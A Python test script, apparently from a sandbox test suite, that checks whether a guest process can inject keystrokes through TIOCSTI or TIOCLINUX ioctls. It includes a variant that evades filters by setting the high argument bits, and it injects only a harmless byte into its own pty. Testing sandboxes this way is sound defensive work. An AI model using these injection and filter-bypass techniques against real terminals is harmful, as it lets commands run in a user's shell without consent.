"""Terminal attacks: a guest types into the terminal it shares with the user.

Usage: terminal.py MODE

The guest shares the caller's terminal, so ``ioctl(fd, TIOCSTI, &c)`` would
push ``c`` into that terminal's input, as if the user had typed it: the
user's shell reads it once the guest is gone (bubblewrap's CVE-2017-5226).
The attack makes its own pty, the controlling terminal of a new session (so
that TIOCSTI works without privilege where ``dev.tty.legacy_tiocsti`` is 1;
root may use it on any tty anyway), and checks whether what it injected can
be read back from the terminal's input.

MODE:
  tiocsti       ioctl(TIOCSTI) through the C library
  tiocsti_high  the same command number with the high 32 bits of the argument
                register set (the kernel reads an unsigned int: a filter
                comparing 64 bits would miss it)
  tioclinux     ioctl(TIOCLINUX) (a console's paste buffer); on a pty it can only
                reach the tty code and fail there: that it reached it is the escape

Exit status (nsjail style): 66 = the forbidden thing happened; 0 = refused
(EPERM); 3 = refused in another way; 2 = usage or setup error.
"""

import ctypes
import errno
import fcntl
import os
import select
import sys
import termios
import tty

ESCAPED, REFUSED, ODD, USAGE = 66, 0, 3, 2
TIOCSTI = 0x5412
TIOCLINUX = 0x541C
NR_IOCTL = 16
TYPED = b"Z"


def out(code, msg):
    print(msg, flush=True)
    sys.exit(code)


def own_terminal():
    """A pty that is this process's controlling terminal: (master, slave) fds."""
    master, slave = os.openpty()
    try:
        os.setsid()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    except OSError:
        pass  # root injects into any tty; without a controlling tty the control says so
    tty.setraw(slave)  # a typed byte is readable at once, no line to finish
    return master, slave


def injected(slave):
    """Whether the byte pushed into the terminal's input can be read from it."""
    ready, _, _ = select.select([slave], [], [], 1.0)
    return bool(ready) and os.read(slave, 16) == TYPED


def main():
    if len(sys.argv) != 2:
        out(USAGE, __doc__)
    mode = sys.argv[1]
    master, slave = own_terminal()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    c = ctypes.c_char(TYPED)
    if mode in ("tiocsti", "tiocsti_high"):
        request = TIOCSTI | (0xFFFFFFFF00000000 if mode == "tiocsti_high" else 0)
        rc = libc.syscall(
            ctypes.c_long(NR_IOCTL), ctypes.c_long(slave), ctypes.c_ulong(request),
            ctypes.byref(c),
        )
        if rc == 0:
            if injected(slave):
                out(ESCAPED, f"{mode}: ESCAPED, typed {TYPED!r} into the terminal")
            out(ODD, f"{mode}: the ioctl succeeded but nothing reached the input")
        err = ctypes.get_errno()
        out(REFUSED if err == errno.EPERM else ODD, f"{mode}: refused ({errno.errorcode[err]})")
    if mode == "tioclinux":
        sub = ctypes.c_char(b"\x03")  # TIOCL_PASTESEL: paste the selection as input
        rc = libc.syscall(
            ctypes.c_long(NR_IOCTL), ctypes.c_long(slave), ctypes.c_ulong(TIOCLINUX),
            ctypes.byref(sub),
        )
        err = ctypes.get_errno() if rc else 0
        if err == errno.EPERM:
            out(REFUSED, "tioclinux: refused (EPERM)")
        out(ESCAPED, f"tioclinux: ESCAPED, the tty code answered ({errno.errorcode.get(err, 0)})")
    os.close(master)
    out(USAGE, f"unknown mode {mode!r}")


if __name__ == "__main__":
    main()
